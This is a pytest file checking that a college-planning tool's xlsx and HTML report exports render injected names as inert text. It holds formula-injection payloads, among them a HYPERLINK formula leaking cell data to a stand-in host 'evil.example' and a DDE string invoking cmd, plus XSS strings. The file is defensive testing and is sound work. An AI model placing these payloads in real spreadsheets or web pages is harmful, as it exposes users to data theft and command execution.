"""No xlsx the system writes holds a formula that came from the data (OWASP "CSV Injection"):
names that start with = + - @ or a tab load as text and come out as text, in the check's
rectification lists, the diagnosis' rectification lists and the diagnosis workbook, in both
languages; and names that are HTML stay text in the diagnosis report."""

from __future__ import annotations

import datetime as dt
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from graph.checks import run_checks
from graph.services.diagnosis import diagnose
from graph.services.rectification.findings import findings_to_xlsx
from graph.services.rectification.tasks import export_rectification
from graph.services.report import write_report
from graph.stores.embedded import EmbeddedStore
from graph.xlsx import sheet_title
from ingest import load_sheets

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&B2,"点击")', "+1+cmd|' /C calc'!A0", "@SUM(1,2)",
            "-2+3", "\t=1+1"]
AS_OF = dt.date(2025, 12, 31)


@pytest.fixture
def poisoned() -> EmbeddedStore:
    """A small college whose unit, target and task names are formula payloads; its targets have no
    task and its task is overdue, so every export has rows about them."""
    store = EmbeddedStore(None)
    load_sheets(store, {
        "部门": [{"编号": "D1", "名称": PAYLOADS[0]}],
        "目标": [{"编号": "T1", "名称": PAYLOADS[1], "层面": "学校", "牵头部门": "D1"},
                 {"编号": "T2", "名称": PAYLOADS[2], "层面": "部门", "上级目标": "T1", "牵头部门": "D1"}],
        "任务": [{"编号": "K1", "名称": PAYLOADS[3], "对应目标": "T2", "牵头部门": "D1", "完成时限": "2025-06-30",
                  "状态": "未完成"}],
    })
    return store


def _assert_inert(path: Path, expected_texts: list[str]) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), f"formula in {name}"
    wb = load_workbook(path)
    texts = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in expected_texts:
        assert any(text in t for t in texts), f"{text!r} not written as text"
    assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_check_rectification_lists_write_payloads_as_text(poisoned, tmp_path, lang):
    path = tmp_path / "checks.xlsx"
    findings_to_xlsx(run_checks(poisoned, as_of=AS_OF), path, lang=lang)
    _assert_inert(path, PAYLOADS[:3])


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_diagnosis_exports_write_payloads_as_text(poisoned, tmp_path, lang):
    rect = tmp_path / "rect.xlsx"
    export_rectification(poisoned, rect, as_of=AS_OF, lang=lang)
    _assert_inert(rect, [PAYLOADS[0]])
    report = tmp_path / "report.xlsx"
    write_report(diagnose(poisoned, as_of=AS_OF).to_dict(), report, "xlsx", lang)
    _assert_inert(report, [PAYLOADS[0], PAYLOADS[3]])


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_the_html_report_shows_markup_in_names_as_text(tmp_path, lang):
    """Names that are HTML reach the diagnosis report (both languages) as text: escaped, never as
    elements or attributes."""
    from graph.services.report import render_html

    img, script = "<img src=x onerror=alert(1)>", "</style><script>alert(2)</script>"
    store = EmbeddedStore(None)
    load_sheets(store, {
        "部门": [{"编号": "D1", "名称": img}],
        "目标": [{"编号": "T1", "名称": script, "层面": "学校", "牵头部门": "D1"},
                 {"编号": "T2", "名称": img + "2", "层面": "部门", "上级目标": "T1", "牵头部门": "D1"}],
        "任务": [{"编号": "K1", "名称": script + "3", "对应目标": "T2", "牵头部门": "D1", "完成时限": "2025-06-30",
                  "状态": "未完成"}],
    })
    html = render_html(diagnose(store, as_of=AS_OF).to_dict(), lang=lang)
    assert "<img" not in html and "<script" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


def test_a_sheet_title_from_a_unit_name_is_sanitised():
    taken: set[str] = set()
    title = sheet_title('=HYPERLINK("x"):[a]/b?*', taken)
    assert not any(ch in title for ch in '[]:*?/\\') and len(title) <= 31
    assert sheet_title('=HYPERLINK("x"):[a]/b?*', taken) != title  # unique
